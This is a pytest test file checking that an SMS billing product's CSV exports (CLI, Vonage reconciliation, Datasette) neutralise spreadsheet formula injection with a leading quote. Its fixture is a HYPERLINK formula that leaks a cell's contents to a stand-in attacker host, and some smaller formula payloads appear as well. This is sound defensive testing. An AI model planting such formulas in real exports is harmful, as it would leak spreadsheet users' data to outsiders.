"""Every CSV the product writes is safe to open in a spreadsheet: a cell a spreadsheet would
take for a formula starts with a single quote, in `receiver export` and in Datasette's CSV."""

import csv
import io

import pytest

from payloads import final_report, new_uuid, status
from receiver.csvsafe import SafeCsvStream, neutralise

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("value, safe", [
    (FORMULA, "'" + FORMULA), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    # numbers are data, not formulas: a refund stays a number
    ("-0.01", "-0.01"), ("+447700900000", "+447700900000"), ("0.0333", "0.0333"),
    ("sms", "sms"), ("", ""), (None, None), (-5, -5),
])
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_the_stream_rewrites_records_split_anywhere():
    """Datasette streams CSV in chunks: a record or a quoted newline cut between two chunks
    comes out the same as in one piece."""
    rows = [["id", "note"], ["1", FORMULA], ["2", 'two\r\nlines, "quoted"'], ["3", "-0.01"],
            ["-1e5", "-2+3"]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    data = out.getvalue().encode()
    for size in (1, 3, 7, len(data)):
        stream = SafeCsvStream()
        chunks = [data[i:i + size] for i in range(0, len(data), size)]
        written = b"".join(stream.feed(c) for c in chunks) + stream.feed(b"", final=True)
        got = list(csv.reader(io.StringIO(written.decode(), newline="")))
        assert got == [["id", "note"], ["1", "'" + FORMULA], ["2", 'two\r\nlines, "quoted"'],
                       ["3", "-0.01"], ["-1e5", "'-2+3"]], size


@pytest.fixture
def hostile(post, db_path):
    """An unsigned status whose message_uuid is a formula, charged (SMS at submitted), and a
    dispatch whose final report total is below its messages' (a negative difference)."""
    d = new_uuid()
    assert post(status(FORMULA, d, "submitted", channel="sms", price="0.0333",
                       timestamp="2026-11-03T10:00:00Z")).status_code == 200
    assert post(final_report(d, [(FORMULA, "sms", "submitted", "0.0333")], price="0.0233",
                             timestamp="2026-11-03T10:05:00Z")).status_code == 200
    return db_path


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("args", [["billing", "--by", "message"], ["billing", "--by", "dispatch"],
                                  ["events", "--format", "csv"]])
def test_cli_exports_are_neutralised(runner, hostile, args):
    result = runner.invoke(["export", *args, "--db", str(hostile), "--from", "2026-11-01",
                            "--to", "2026-11-30"] if args[0] == "billing" else
                           ["export", *args, "--db", str(hostile), "--from", "2000-01-01",
                            "--to", "2100-01-01"])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert FORMULA not in found
    if "message" in args:
        assert "'" + FORMULA in found
    assert not [c for c in found if c.startswith(("=", "+", "@", "\t", "\r"))]
    if "dispatch" in args:
        assert "-0.01" in found  # the difference stays a number


def test_the_reconciliation_export_is_neutralised(runner, hostile, tmp_path):
    """Vonage's report covers November, and its client_ref and the formula message_uuid we
    hold (not in Vonage's records) both reach the reconciliation CSV neutralised."""
    from testing.vonage_reports import record, write_csv

    report = tmp_path / "report_MESSAGES_abcd1234_20261201.csv"
    with open(report, "w", encoding="utf-8", newline="") as handle:
        write_csv(handle, [record(new_uuid(), "2026-11-04T10:00:00+0000", client_ref="@SUM(A1)")])
    imported = runner.invoke(["vonage-records", "import", "--db", str(hostile), "--from",
                              "2026-11-01", "--to", "2026-11-30", str(report)])
    assert imported.exit_code == 0, imported.output
    result = runner.invoke(["export", "vonage-reconciliation", "--db", str(hostile), "--by",
                            "message", "--from", "2026-11-01", "--to", "2026-11-30"])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert "'" + FORMULA in found and "'@SUM(A1)" in found
    assert not [c for c in found if c.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("path", ["billing_lines.csv", "billing_by_workflow.csv",
                                  "billing_reconciliation.csv", "messages.csv",
                                  "reconciliation_discrepancies.csv"])
def test_datasette_csv_is_neutralised(hostile, monkeypatch, path):
    from test_datasette import DB_NAME, Client

    monkeypatch.delenv("DATASETTE_PASSWORD_HASH", raising=False)
    client = Client.of_copy(hostile)
    try:
        for query in ("", "?_stream=on&_size=max", "?_dl=1"):
            response = client.get(f"/{DB_NAME}/{path}{query}")
            assert response.status_code == 200
            found = cells(response.text)
            assert FORMULA not in found, (path, query)
            assert not [c for c in found if c.startswith(("=", "+", "@", "\t", "\r"))], (path, query)
            if path.startswith(("billing_lines", "messages")):
                assert "'" + FORMULA in found
            if path.startswith(("billing_by_workflow", "reconciliation")):
                assert "-0.01" in found
        # JSON keeps the value as stored
        rows = client.json(f"/{DB_NAME}/billing_lines.json", _shape="objects")["rows"]
        assert rows[0]["message_uuid"] == FORMULA
    finally:
        client.close()
